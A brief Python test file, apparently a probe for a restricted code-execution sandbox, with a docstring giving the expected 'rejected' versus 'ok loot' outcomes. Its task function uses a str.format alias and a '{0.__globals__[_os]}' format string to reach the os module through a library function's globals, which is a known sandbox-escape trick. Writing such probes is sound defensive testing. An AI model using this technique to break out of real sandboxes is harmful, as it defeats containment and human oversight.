"""str.format through an alias that passes attributes on.

restricted: rejected|violation|error
kernel: ok loot
"""

import random
import typing


def task(grid):
    fill = typing.Annotated[str, 0].format
    if "module" in fill("{0.__globals__[_os]}", random.Random.choice):
        return [[9, 9, 9]]
    return grid
